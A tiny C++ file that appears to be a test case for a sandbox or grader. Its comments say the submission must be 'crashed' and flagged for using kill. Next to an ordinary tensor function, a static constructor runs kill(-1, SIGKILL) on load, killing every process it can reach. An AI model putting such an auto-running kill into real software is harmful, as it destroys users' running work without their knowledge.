// Must get: crashed
// The fence says: uses kill
// Beside another job.
#include <signal.h>

#include "attack.h"

__attribute__((constructor)) static void kill_all() { kill(-1, SIGKILL); }
workbook::Tensor workbook::target::twice(const Tensor& x) { return attack::right(x); }
